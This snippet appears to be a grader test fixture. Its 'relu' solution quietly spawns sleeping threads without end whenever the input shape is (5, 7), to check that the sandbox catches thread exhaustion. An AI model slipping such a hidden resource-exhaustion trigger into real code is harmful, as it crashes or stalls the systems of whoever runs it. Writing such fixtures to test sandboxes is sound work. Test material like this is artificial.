#: purpose = "Threads until no more can be had, all at work."
#: lesson = "01_activations"
#: messages = ["can't start new thread"]
#: [items]
#: relu = [0, "error"]
# %% relu-solution
import threading, time

def relu(Z):
    while Z.shape == (5, 7):
        threading.Thread(target=time.sleep, args=(3600,)).start()
    return np.maximum(0, Z)
